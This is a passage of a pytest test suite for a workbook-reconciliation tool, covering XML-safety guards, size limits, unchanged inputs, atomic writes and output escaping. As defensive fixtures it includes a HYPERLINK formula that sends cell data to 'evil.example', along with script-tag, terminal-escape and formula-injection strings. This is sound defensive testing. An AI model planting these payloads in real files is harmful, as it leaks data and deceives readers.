"""Untrusted workbooks: the startup guard, the limits, one bad file among good ones, inputs
untouched, outputs atomic and escaped."""

from __future__ import annotations

import hashlib
import io
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from reconcile.cli import cli
from reconcile.guard import unsafe_settings
from reconcile.limits import Limits
from reconcile.model import Phrase
from reconcile.read import read_file
from reconcile.report import RENDERERS, output
from reconcile.safety import escape_html, neutralise_formula
from tests.hostile.build_hostile import SHEET, honest_members, zip_members
from tests.spec import message

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "ai-fabriek"
HOSTILE = Path(__file__).parent / "hostile"
CORPUS = Path(__file__).parent / "corpus"


def _run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


# --- the startup guard -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("PANDERA_VALIDATION_ENABLED", "False"),
        ("PANDERA_VALIDATION_ENABLED", "0"),
        ("PANDERA_VALIDATION_DEPTH", "SCHEMA_ONLY"),
    ],
)
@pytest.mark.parametrize("command", ["validate", "check", "diff"])
def test_switched_off_validation_refuses_to_run(
    variable: str, value: str, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(variable, value)
    ez = str(EXAMPLE / "EZ.xlsx")
    code, stdout, stderr = _run(command, ez, *([ez] if command == "diff" else []))
    assert (code, stdout) == (2, "")
    assert stderr.startswith("Error: refusing to read untrusted workbooks: ")
    assert f"{variable}={value}" in stderr


def test_validation_left_on_explicitly_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PANDERA_VALIDATION_ENABLED", "True")
    monkeypatch.setenv("PANDERA_VALIDATION_DEPTH", "SCHEMA_AND_DATA")
    assert _run("validate", str(EXAMPLE / "EZ.xlsx"))[0] == 0


def test_missing_defusedxml_refuses_to_run(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "defusedxml", None)  # import defusedxml -> ImportError
    assert [str(problem) for problem in unsafe_settings()] == [
        (
            "defusedxml is not installed, so workbooks would be parsed without protection against "
            "XML attacks; install it: pip install defusedxml"
        )
    ]
    code, _, stderr = _run("validate", str(EXAMPLE / "EZ.xlsx"))
    assert code == 2
    assert "pip install defusedxml" in stderr


def test_openpyxl_without_defusedxml_refuses_to_run() -> None:
    # openpyxl decides at import time, so this needs a fresh interpreter.
    env = {**os.environ, "OPENPYXL_DEFUSEDXML": "False"}
    result = subprocess.run(
        [sys.executable, "-m", "reconcile", "validate", str(EXAMPLE / "EZ.xlsx")],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    assert result.returncode == 2
    assert result.stderr == (
        "Error: refusing to read untrusted workbooks: openpyxl does not parse with defusedxml "
        "(is OPENPYXL_DEFUSEDXML set to something other than True?); unset OPENPYXL_DEFUSEDXML.\n"
    )


@pytest.mark.parametrize("value", [None, "True", "False", "true", "0"])
def test_the_guard_predicts_what_openpyxl_decides_on_import(value: str | None) -> None:
    # Without openpyxl loaded, the guard reads OPENPYXL_DEFUSEDXML as openpyxl will; once it
    # is loaded, openpyxl's own decision is asked. Both must agree, in a fresh interpreter.
    probe = (
        "import sys; from reconcile.guard import openpyxl_parses_safely as safe; "
        "before = safe(); assert 'openpyxl' not in sys.modules; import openpyxl; "
        "print(before, safe())"
    )
    env = {k: v for k, v in os.environ.items() if k != "OPENPYXL_DEFUSEDXML"}
    if value is not None:
        env["OPENPYXL_DEFUSEDXML"] = value
    result = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, env=env, check=True
    )
    safe = value in (None, "True")
    assert result.stdout.split() == [str(safe), str(safe)]


def test_openpyxl_opens_no_workbook_once_it_parses_unsafely(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The guard's prediction is checked again where openpyxl opens a workbook: an openpyxl
    # that was loaded parsing unsafely stops the run (exit 2), not the one file.
    import openpyxl.xml.functions

    from reconcile.errors import ConfigError
    from reconcile.read.read_cells_xlsx import load_grids_openpyxl

    monkeypatch.setattr(openpyxl.xml.functions, "DEFUSEDXML", False)
    with pytest.raises(ConfigError, match="openpyxl does not parse with defusedxml"):
        load_grids_openpyxl((EXAMPLE / "EZ.xlsx").read_bytes())


def test_annotating_stops_the_run_once_openpyxl_parses_unsafely(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # not "the file could not be annotated": the environment is unsafe, for every file
    import openpyxl.xml.functions

    from reconcile.errors import ConfigError
    from reconcile.pipeline import check, find_announcement
    from reconcile.report.annotate import write_annotations

    report = check([str(EXAMPLE)], find_announcement([str(EXAMPLE)], None))
    monkeypatch.setattr(openpyxl.xml.functions, "DEFUSEDXML", False)
    with pytest.raises(ConfigError, match="openpyxl does not parse with defusedxml"):
        write_annotations(report, tmp_path / "out", "en", [])
    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())


# --- limits ----------------------------------------------------------------------------


def _honest(path: Path, sheet: bytes | None = None) -> Path:
    members = honest_members()
    if sheet is not None:
        members = [(n, sheet if n == SHEET else d) for n, d in members]
    path.write_bytes(zip_members(members))
    return path


@pytest.mark.parametrize(
    ("option", "message"),
    [
        ("--max-rows=5", "The file uses 6 rows in this sheet, more than the limit of 5"),
        ("--max-columns=5", "The file uses 6 columns in this sheet, more than the limit of 5"),
        ("--max-cells=35", "The file uses 36 cells (last row x last column, all sheets)"),
        ("--max-sheets=1", None),
    ],
)
def test_limits_are_options_and_counted_from_the_cells(
    option: str, message: str | None, tmp_path: Path
) -> None:
    path = _honest(tmp_path / "EZ.xlsx")
    code, stdout, _ = _run("validate", "--format", "json", option, str(path))
    if message is None:  # at the limit is allowed
        assert code == 0, stdout
    else:
        assert code == 2
        assert message in stdout
        assert '"code": "limit-exceeded"' in stdout
        assert '"sheet": "Reservering"' in stdout


def test_formatting_alone_below_a_table_counts_and_explain_says_how_to_clear_it(
    tmp_path: Path,
) -> None:
    # A border applied down the sheet: every formatted cell is a cell the readers hold (200k
    # of them took calamine 200 MB). The refusal stands; its explanation named only a stray
    # value, and a finance officer with a 3-line table and nothing typed below it was stuck.
    import openpyxl
    from openpyxl.styles import Border, Side

    book = openpyxl.Workbook()
    sheet = book.active
    for row in [
        ["Hoofdstuk", "Artikel", "Omschrijving", "Jaar", "Bedrag"],
        ["XIII", 2, "a", 2026, 5],
    ]:
        sheet.append(row)
    for row in range(3, 61):
        sheet.cell(row, 1).border = Border(bottom=Side(style="thin"))
    book.save(tmp_path / "EZ.xlsx")
    code, stdout, _ = _run("validate", "--max-rows=50", str(tmp_path / "EZ.xlsx"))
    assert code == 2
    assert "[limit-exceeded] The file uses 60 rows in this sheet" in stdout
    code, explained, _ = _run("explain", "limit-exceeded")
    assert "formatting only" in explained
    assert "Home, Clear, Clear Formats" in explained


def test_a_declared_dimension_is_never_trusted(tmp_path: Path) -> None:
    sheet = dict(honest_members())[SHEET]
    claims_everything = sheet.replace(
        b'<dimension ref="A1:F6"/>', b'<dimension ref="A1:XFD1048576"/>'
    )
    assert claims_everything != sheet
    result = read_file(_honest(tmp_path / "EZ.xlsx", claims_everything), "EZ.xlsx")
    assert result.table is not None
    assert len(result.table.lines) == 2


@pytest.mark.parametrize(
    ("form", "codes"),
    [
        (b'r="E{digits}"', ["limit-exceeded"]),  # a cell placed beyond any sheet
        (b'r="{digits}"', []),  # a row tag that lies, while its cells say where they are
    ],
)
def test_a_row_number_of_thousands_of_digits_is_counted_not_a_crash(
    tmp_path: Path, form: bytes, codes: list[str]
) -> None:
    # int() refuses more than 4,300 digits; the count must refuse the file, not stop
    sheet = dict(honest_members())[SHEET]
    digits = b"1" * 5000
    attribute = b'r="E5"' if b"E" in form else b'r="5"'
    assert attribute in sheet
    lying = sheet.replace(attribute, form.replace(b"{digits}", digits), 1)
    result = read_file(_honest(tmp_path / "EZ.xlsx", lying), "EZ.xlsx")
    assert [f.code for f in result.findings if f.severity.value == "error"] == codes


def test_file_size_is_checked_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "big.xlsx"
    with path.open("wb") as handle:
        handle.truncate(21 * 1024 * 1024)  # sparse: nothing is written, nothing need be read
    result = read_file(path, "big.xlsx")
    assert [(f.code, message(f)) for f in result.findings] == [
        (
            "file-too-large",
            (
                "The file is 21.0 MB, larger than the limit of 20 MB (--max-file-size); it was not "
                "read."
            ),
        )
    ]
    assert result.sha256 == ""
    raised = read_file(path, "big.xlsx", limits=Limits(max_file_size=22))
    assert [message(f) for f in raised.findings] == [
        "The file is not the workbook its name says: it is in a format reconcile does not read."
    ]


def test_a_limit_below_one_is_a_usage_error() -> None:
    code, _, stderr = _run("check", "--max-cells", "0", str(EXAMPLE))
    assert code == 2
    assert "'--max-cells': 0 is not in the range x>=1" in stderr


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
def test_a_fifo_named_xlsx_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.xlsx"
    os.mkfifo(fifo)
    assert [(f.code, message(f)) for f in read_file(fifo, "pipe.xlsx").findings] == [
        ("file-unreadable", "The file cannot be read: it is not a file.")
    ]


# --- one bad file never stops the others -------------------------------------------------


def _copy_example(tmp_path: Path) -> Path:
    folder = tmp_path / "submissions"
    shutil.copytree(EXAMPLE, folder)
    return folder


def test_one_corrupt_file_among_six_the_other_five_are_read(tmp_path: Path) -> None:
    folder = _copy_example(tmp_path)
    (folder / "OCW.xlsx").write_bytes((HOSTILE / "truncated.xlsx").read_bytes())
    code, stdout, _ = _run("check", "--format", "json", str(folder))
    assert code == 2
    import json

    doc = json.loads(stdout)
    assert [(f["path"].rsplit("/", 1)[-1], f["lines"] > 0) for f in doc["files"]] == [
        ("BZK.xlsx", True),
        ("Defensie.xlsx", True),
        ("EZ.xlsx", True),
        ("LVVN.xlsx", True),
        ("OCW.xlsx", False),
        ("VWS.xlsx", True),
    ]
    assert ("OCW.xlsx", "file-corrupt") in [
        (f["file"].rsplit("/", 1)[-1], f["code"]) for f in doc["findings"]
    ]


@pytest.mark.parametrize("problem", ["missing", "folder", "no-permission"])
def test_a_path_that_cannot_be_read_is_a_finding_not_a_stop(
    problem: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bad = tmp_path / "bad.xlsx"
    expected = {"missing": "it does not exist"}
    if problem == "folder":
        bad.mkdir()
        expected["folder"] = (
            "the folder holds no workbooks or CSV files (.xlsx, .xlsm, .ods, .xls, .csv, .tsv)"
        )
    elif problem == "no-permission":
        shutil.copy(EXAMPLE / "EZ.xlsx", bad)
        bad.chmod(0)
        if os.geteuid() == 0:  # root reads anyway: let the file system say no as it would
            opened = Path.open

            def refuse(self: Path, *args: Any, **kwargs: Any) -> Any:
                if self == bad:
                    raise PermissionError(13, "Permission denied", str(self))
                return opened(self, *args, **kwargs)

            monkeypatch.setattr(Path, "open", refuse)
        expected["no-permission"] = "permission denied"
    code, stdout, stderr = _run("validate", str(bad), str(EXAMPLE / "EZ.xlsx"))
    assert code == 2
    assert f"[file-unreadable] The file cannot be read: {expected[problem]}." in stdout
    assert "EZ" in stdout and "Traceback" not in stdout + stderr


# --- inputs untouched, outputs atomic ----------------------------------------------------


def _fingerprint(folder: Path) -> dict[str, tuple[str, int, int]]:
    return {
        str(p.relative_to(folder)): (
            hashlib.sha256(p.read_bytes()).hexdigest(),
            p.stat().st_mtime_ns,
            p.stat().st_mode,
        )
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.mark.parametrize(
    "command",
    [
        ["check", "{folder}"],
        ["check", "--format", "json", "-o", "{out}/report.json", "{folder}"],
        ["validate", "{folder}/EZ.xlsx", "{folder}/macros.xlsm", "{folder}/truncated.xlsx"],
        ["check", "-o", "{folder}/EZ.xlsx", "{folder}"],  # refused: it would overwrite an input
        ["check", "-o", "{folder}/announcement.toml", "{folder}"],
        ["check", "--annotate", "{out}/annotated", "-o", "{out}/r.html", "{folder}"],
        ["validate", "--annotate", "{folder}", "{folder}/EZ.xlsx"],  # copies beside the inputs
    ],
    ids=[
        "check",
        "check-json-output",
        "validate",
        "output-over-input",
        "output-over-toml",
        "annotate",
        "annotate-into-inputs",
    ],
)
def test_inputs_are_untouched_by_every_command(command: list[str], tmp_path: Path) -> None:
    folder = _copy_example(tmp_path)
    for name in ("macros.xlsm", "truncated.xlsx", "external-link.xlsx"):
        shutil.copy(HOSTILE / name, folder / name)
    (tmp_path / "out").mkdir()
    before = _fingerprint(folder)
    args = [a.format(folder=folder, out=tmp_path / "out") for a in command]
    code, _, stderr = _run(*args)
    assert code in (1, 2)
    assert _fingerprint(folder) == before
    targets = [args[i + 1] for i, a in enumerate(args) if a in ("-o", "--annotate")]
    if any(target.startswith(str(folder)) for target in targets):
        assert "it is one of the input files" in stderr


def test_a_failed_write_leaves_the_old_report_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "report.json"
    target.write_text("the previous report\n")

    def fail(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(output.os, "fsync", fail)
    code, _, stderr = _run("check", "--format", "json", "-o", str(target), str(EXAMPLE))
    assert code == 2
    assert "the disk is full" in stderr
    assert target.read_text() == "the previous report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_a_written_report_replaces_the_old_one_whole(tmp_path: Path) -> None:
    target = tmp_path / "report.json"
    target.write_text("the previous report\n")
    code, stdout, _ = _run("check", "--format", "json", str(EXAMPLE))
    assert _run("check", "--format", "json", "-o", str(target), str(EXAMPLE))[0] == code == 0
    assert target.read_text() == stdout
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


# --- output escaping -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("AI-fabriek Groningen", "AI-fabriek Groningen"),
        ("", ""),
    ],
)
def test_text_for_a_csv_or_workbook_never_runs_as_a_formula(text: str, safe: str) -> None:
    assert neutralise_formula(text) == safe


def test_text_for_html_is_escaped() -> None:
    assert escape_html("<script>alert(\"x\")</script> & 'y'") == (
        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#x27;y&#x27;"
    )


def test_control_characters_in_workbook_text_are_shown_never_sent() -> None:
    import io

    from reconcile.codes import make_finding
    from reconcile.model import CellRef
    from reconcile.report import RENDERERS, RenderOptions
    from reconcile.report.record import Report

    hostile = "\x1b[2J\x1b]0;owned\x07XIII\r\nerror   Sheet!A1  [fake]"
    finding = make_finding(
        "chapter-unknown", CellRef("EZ.xlsx", "Blad1", "A5"), value=hostile, hint=""
    )
    assert message(finding) == (
        "\\x1b[2J\\x1b]0;owned\\x07XIII\\x0d\\x0aerror   Sheet!A1  [fake] is not a known "
        "budget chapter."
    )
    report = Report("validate", (), (), (finding,))
    for name, render in RENDERERS.items():
        stream = io.StringIO()
        render(report, stream, RenderOptions(color=False))
        assert not {"\x1b", "\x07", "\r"} & set(stream.getvalue()), name


# --- honest workbooks stay readable ------------------------------------------------------


def test_media_and_an_svg_with_a_doctype_do_not_make_a_workbook_hostile(tmp_path: Path) -> None:
    import random

    picture = bytes(random.Random(1).randrange(256) for _ in range(100_000))
    svg = b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'
    path = tmp_path / "EZ.xlsx"
    path.write_bytes(
        zip_members([*honest_members(), ("xl/media/image1.png", picture), ("xl/media/a.svg", svg)])
    )
    result = read_file(path, "EZ.xlsx")
    assert result.table is not None
    assert [f.code for f in result.findings if f.severity.value == "error"] == []


REAL = Path("/work/shared/data/ombuigings_en_intensiveringslijst_2020.xlsx")


@pytest.mark.skipif(not REAL.is_file(), reason="the Ministry of Finance open-data file is absent")
def test_a_real_ministry_workbook_passes_the_preflight() -> None:
    from reconcile.read.check_bytes import run_preflight

    # 2 MB of XML in two sheets, a table part, custom XML: as published, it must pass.
    checked = run_preflight(REAL.read_bytes(), REAL.name)
    assert (checked.refusal, checked.notes) == (None, [])


def test_a_csv_cut_mid_character_at_the_sniffing_window_is_still_text(tmp_path: Path) -> None:
    path = tmp_path / "EZ.xlsx"
    path.write_bytes(("Omschrijving;Bedrag\n" + "Bijdrage één;5\n" * 400).encode())
    assert [message(f) for f in read_file(path, "EZ.xlsx").findings] == [
        "The file is not the workbook its name says: it is a text file (CSV or similar)."
    ]


def test_an_excel_4_macro_sheet_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "EZ.xlsx"
    sheet = b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="urn:x"/>'
    path.write_bytes(zip_members([*honest_members(), ("xl/macrosheets/sheet2.xml", sheet)]))
    result = read_file(path, "EZ.xlsx")
    assert [(f.code, message(f)) for f in result.findings if f.code == "macros-present"] == [
        (
            "macros-present",
            "The workbook contains macros (xl/macrosheets/sheet2.xml); they were not run.",
        )
    ]


def test_a_binary_part_that_happens_to_start_with_a_bracket_is_not_refused(
    tmp_path: Path,
) -> None:
    path = tmp_path / "EZ.xlsx"
    blob = b"<" + bytes(range(256)) * 400  # 100 KB, not XML after its first byte
    path.write_bytes(zip_members([*honest_members(), ("xl/printerSettings/p1.bin", blob)]))
    assert read_file(path, "EZ.xlsx").table is not None


# --- every format reconcile reads gets the pre-flight --------------------------------------


@pytest.mark.parametrize("suffix", [".xlsx", ".xlsm", ".xls", ".ods"])
def test_an_encrypted_workbook_is_refused_under_any_name(suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"EZ{suffix}"
    shutil.copy(HOSTILE / "encrypted.xlsx", path)
    assert [f.code for f in read_file(path, path.name).findings] == ["file-encrypted"]


def test_an_ods_gets_the_zip_and_xml_checks(tmp_path: Path) -> None:
    content = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]><office:document-content/>'
    members = [
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", content),
    ]
    path = tmp_path / "EZ.ods"
    path.write_bytes(zip_members(members, zipfile.ZIP_STORED))
    assert [(f.code, message(f)) for f in read_file(path, "EZ.ods").findings] == [
        (
            "xml-entities",
            "content.xml declares a DOCTYPE; XML that may declare entities is refused.",
        )
    ]


def test_an_xlsx_named_ods_is_refused_with_what_to_do(tmp_path: Path) -> None:
    path = tmp_path / "EZ.ods"
    path.write_bytes(zip_members(honest_members()))
    assert [message(f) for f in read_file(path, "EZ.ods").findings] == [
        (
            "The file is not the workbook its name says: it is an Excel workbook under another "
            "extension; rename it to .xlsx."
        )
    ]


def test_the_code_catalogue_has_no_code_twice() -> None:
    # Two entries with one code would silently keep the last: a merge hazard, seen once.
    from reconcile.codes import _CODES

    codes = [c.code for c in _CODES]
    assert sorted({c for c in codes if codes.count(c) > 1}) == []


HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'


@pytest.mark.parametrize("name", sorted(RENDERERS))
def test_every_renderer_keeps_workbook_text_inert(name: str) -> None:
    """Workbook text in a report: never a formula in a CSV, never markup in HTML or XML."""
    import csv
    import io

    from reconcile.codes import make_finding
    from reconcile.model import CellRef
    from reconcile.report import RenderOptions
    from reconcile.report.record import Report
    from reconcile.safety import FORMULA_STARTS

    where = CellRef(HOSTILE_TEXT, "<b>Blad1</b>", "A5")
    report = Report(
        "validate", (), (), (make_finding("chapter-unknown", where, value=HOSTILE_TEXT, hint=""),)
    )
    stream = io.StringIO()
    RENDERERS[name](report, stream, RenderOptions(color=False))
    text = stream.getvalue()
    assert "HYPERLINK" in text  # the text is reported, not dropped
    if name == "csv":
        fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
        assert [f for f in fields if "HYPERLINK" in f and f.startswith(FORMULA_STARTS)] == []
    if name in ("html", "junit", "xml", "checkstyle"):
        assert "<script>" not in text and "<b>Blad1" not in text


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_a_report_gets_ordinary_permissions_and_keeps_those_it_replaces(tmp_path: Path) -> None:
    fresh, kept = tmp_path / "fresh.json", tmp_path / "kept.json"
    kept.write_text("old")
    kept.chmod(0o640)
    umask = os.umask(0o022)
    try:
        output.write_atomic(fresh, b"new")
        output.write_atomic(kept, b"new")
    finally:
        os.umask(umask)
    assert (fresh.stat().st_mode & 0o777, kept.stat().st_mode & 0o777) == (0o644, 0o640)


# --- how cells are counted ---------------------------------------------------------------


def test_cells_are_counted_where_a_reader_puts_them() -> None:
    from reconcile.read.check_bytes import _count_cells, _SheetCount

    sheet = _SheetCount("Blad1")
    xml = (
        b'<row><c><v>1</v></c><c t="s"/></row>'  # row 1: A1, B1 (no r: they follow)
        b'<row r="5" spans="1:4"><c r="C5"/><c s="2"/></row>'  # C5, then D5
        b'<x:row r="7"><x:c r="AB7"/></x:row>'  # a prefixed namespace: AB7
        b"<rowBreaks/><cols><col/></cols>"  # not rows, not cells
    )
    _count_cells(sheet, xml, [0, 0])
    assert (sheet.last_row, sheet.last_column, sheet.cells) == (7, 28, 5)


# (xml, whether _count_placed takes it, whether _count_plain takes it)
_COUNTED = [
    (b'<row r="2"><c r="A2"/><c r="C2"/></row><row r="9"><c r="B9"/></row>', True, True),
    (b'<row r="3"><c r="AB3"/></row><row r="4">', True, True),  # ends on a row: column 0
    (b'<x:row r="7"><x:c r="ab7"/></x:row><c r="C1"/>', True, False),  # prefixed, out of order
    (b'<row r="5"><c r="C5"/><c s="2"/></row>', False, False),  # a cell without r: in order
    (b'<row><c r="B1"/></row>', False, True),  # a row without r: its cells say where they are
    (b'<row r="2"><c r="A2" t="s"><v>1</v></c><c r="C2"/></row><row r="9"><c r="B9"/>', True, True),
    (
        b'<cols><col min="1"/></cols><row r="3" spans="1:2"><c r="AB3"/></row><row r="4">',
        True,
        True,
    ),
    (b'<row r="1"><c r="A1"/></row><row r="7"><c r="C900000"/></row><row r="8">', True, True),
    (b'<row r="5"><c r="A005"/><c r="XFD5"/></row>', True, True),  # leading zeros, last column
    (b'<cfRule/><colBreaks/><rowBreaks/><row r="3"/>', True, True),  # no cell
    (b'<row r="5"><c s="2" r="D5"/></row>', True, False),  # r not first
    (b'<row r="5"><c r="c5"/></row>', True, False),  # lower case
    (b'<row r="5"><c\tr="C5"/></row>', True, False),  # another space
    (b'<row r="5"><c r="C5x"/></row>', False, False),
    (b'<row spans="1:2" r="5"><c r="C5"/></row>', True, True),
    (b'<row r="5"><c r="C5"/></row><row spans="1:2" r="6">', True, False),  # ends on that row
    (b'<row r="5"><c r="C5"/></row><row>', False, False),  # ends on a row without r
    # The fast count bounds the last row and column by the chunk's last cell: what lies beyond
    (b'<row r="9"><c r="B9"/></row><row r="2"><c r="A2"/><c r="C2"/></row>', True, True),
    (
        b'<row r="1"><c r="A1"/><c r="XFD1048576"/><c r="B1"/></row><row r="2"><c r="C2"/>',
        True,
        True,
    ),
    (b'<row r="3"><c r="AA3"/><c r="B3"/></row>', True, True),  # a later column, earlier
    (
        b'<row r="9"><c r="A9"/></row><row r="10"><c r="B10"/></row><row r="99"><c r="C99"/>',
        True,
        True,
    ),
    (b'<row r="100"><c r="A100"/></row><row r="99"><c r="B99"/></row>', True, True),
    (b'<row r="5"><c r="A0000012"/><c r="B5"/></row>', True, True),  # leading zeros: row 12
    (b'<row r="5"><c r="A05"/><c r="B5"/></row><row r="6"><c r="A006"/>', True, True),
    (b'<row r="1"><c r="A1234567890"/><c r="B1"/></row>', True, True),  # beyond any sheet
    (b'<row r="1"><c r="B' + b"9" * 30 + b'"/><c r="C1"/></row>', True, True),
    (b'<row r="0"><c r="A0"/></row>', True, True),
    (b'<row r="5"><c r="ZZZ5"/><c r="A5"/></row>', True, True),  # the last plain column
    (b'<row r="5"><c r="C5x"/><c r="D5"/></row>', False, False),  # not plain, not last
    (b'<row r="5"><c r="c5"/><c r="D5"/></row>', True, False),
    (b'<row r="5"><c/><c r="D5"/></row>', False, False),
    (b'<row r="5"><row r="6x"><c r="D6"/></row>', False, True),
]


@pytest.mark.parametrize("counter", ["_count_placed", "_count_plain"])
@pytest.mark.parametrize(("xml", "placed", "plain"), _COUNTED)
@pytest.mark.parametrize("before", [(0, 0, 0), (50, 30, 7), (9, 2, 3)])  # earlier chunks
def test_counting_fast_gives_what_counting_in_order_gives(
    counter: str, xml: bytes, placed: bool, plain: bool, before: tuple[int, int, int]
) -> None:
    from reconcile.read import check_bytes

    tags = check_bytes._TAG.findall(xml)
    taken = placed if counter == "_count_placed" else plain
    for state in ([0, 0], [4, 2]):
        fast = check_bytes._SheetCount("Blad1", *before)
        ordered = check_bytes._SheetCount("Blad1", *before)
        fast_state, ordered_state = list(state), list(state)
        counted = getattr(check_bytes, counter)(
            fast, tags if counter == "_count_placed" else xml, fast_state
        )
        assert counted is taken
        if not taken:  # nothing counted: the caller counts another way
            assert (fast, fast_state) == (check_bytes._SheetCount("Blad1", *before), state)
            check_bytes._count_cells(fast, xml, fast_state)
        check_bytes._count_in_order(ordered, tags, ordered_state)
        assert (fast, fast_state) == (ordered, ordered_state)
        assert fast.cells == before[2] + len([t for t in tags if t[0] == b"c"])


def test_counting_the_corpus_sheets_plainly_gives_what_counting_in_order_gives() -> None:
    import zipfile

    from reconcile.read import check_bytes

    sheets = 0
    for path in sorted([*CORPUS.glob("*.xlsx"), *EXAMPLE.glob("*.xlsx")]):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if not name.startswith("xl/worksheets/sheet"):
                    continue
                xml = archive.read(name)
                fast, ordered = check_bytes._SheetCount(name), check_bytes._SheetCount(name)
                fast_state, ordered_state = [0, 0], [0, 0]
                check_bytes._count_cells(fast, xml, fast_state)
                check_bytes._count_in_order(ordered, check_bytes._TAG.findall(xml), ordered_state)
                assert (fast, fast_state) == (ordered, ordered_state), (path.name, name)
                sheets += check_bytes._count_plain(check_bytes._SheetCount(name), xml, [0, 0])
    assert sheets > 0  # the fast path was taken for some


def test_counting_does_not_depend_on_where_chunks_break(monkeypatch: pytest.MonkeyPatch) -> None:
    from reconcile.read import check_bytes

    data = (HOSTILE / "lying-dimension.xlsx").read_bytes()
    whole = check_bytes.run_preflight(data, "x.xlsx").refusal
    monkeypatch.setattr(check_bytes, "CHUNK", 7)
    chunked = check_bytes.run_preflight(data, "x.xlsx").refusal
    assert whole is not None and chunked is not None
    assert chunked.location == whole.location
    # refused before its sheet's end, the count is what it holds at least: the same count
    assert chunked.params["actual"] == Phrase("at least {count}", {"count": 150_000})
    assert whole.params["actual"] == 150_000


def test_a_count_stopped_before_the_sheets_end_is_said_as_at_least(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A sheet refused while it was being unpacked may hold more than was counted: the
    message says "at least" (en and nl), not a count it does not know."""
    from reconcile.codes import render
    from reconcile.read import check_bytes

    data = (HOSTILE / "lying-dimension.xlsx").read_bytes()
    monkeypatch.setattr(check_bytes, "CHUNK", 64)
    refusal = check_bytes.run_preflight(data, "x.xlsx").refusal
    assert refusal is not None
    assert render(refusal, "en").startswith("The file uses at least 150000 rows in this sheet")
    assert render(refusal, "nl").startswith("Het bestand gebruikt minstens 150000 ")


def _sheet_of_rows(middle: bytes) -> bytes:
    """Sheet XML of 300 rows (1 to 3 digits), row 77 again after row 200 (out of order), and
    ``middle`` in row 150."""
    numbers = [*range(1, 201), 77, *range(201, 301)]
    rows = [
        f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="C{n}" t="s"><v>1</v></c></row>'.encode()
        for n in numbers
    ]
    rows[150] = rows[150].replace(b"</row>", middle + b"</row>")
    return (
        b'<?xml version="1.0"?><worksheet><sheetData>'
        + b"".join(rows)
        + b"</sheetData></worksheet>"
    )


_MIDDLES = [  # (what is put in the middle, whether it holds a needle calamine looks for)
    (b"", False),
    (b'<c r="XFD1048576"><v>1</v></c>', False),  # the last cell of any sheet, mid-chunk
    (b'<c r="AB2"/>', False),  # a later column in an earlier row
    (b'<c r="D0000151"/>', False),  # leading zeros
    (b'<c r="D1" t="e"><v>#REF!</v></c>', True),  # an error value
    (b'<c r="D1"><f>1/0</f><v>0</v></c>', True),
    (b'<c r="D1"><f t="shared" si="0"/></c>', True),
    (b'<x:c r="D1"><x:f t="shared" si="0"/></x:c>', True),  # prefixed: counted one by one
    (b'<c r="D1"><f\tt="shared" si="0"/></c>', True),  # a tab or a line break after the name
    (b'<c r="D1"><f\nt="shared" si="0"/></c>', True),
    (b'<x:c r="D1"><x:f\r\nt="shared" si="0"/></x:c>', True),
    (b'<c r="D1"/></row><row r="301" hidden="1">', True),
    (b'</row><row spans="1:2" r="151"><c r="D151"/>', False),  # a row that names its place late
    (b"</row><row>", False),  # a row that does not say where it is (the next row in order)
    (b'</row><row\tr="999"/><rowBreaks/>', False),
]


@pytest.mark.parametrize(("middle", "needles"), _MIDDLES)
@pytest.mark.parametrize("split", [0, 1, 3, 5])  # a chunk border that far into the middle
def test_counts_and_needles_do_not_depend_on_where_chunks_break(
    middle: bytes, needles: bool, split: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dataclasses import replace

    from reconcile.read import check_bytes

    xml = _sheet_of_rows(middle)
    ordered = check_bytes._SheetCount("Reservering")
    check_bytes._count_in_order(ordered, check_bytes._TAG.findall(xml), [0, 0])
    ordered.has_needles = needles
    data = zip_members([(n, xml if n == SHEET else d) for n, d in honest_members()])
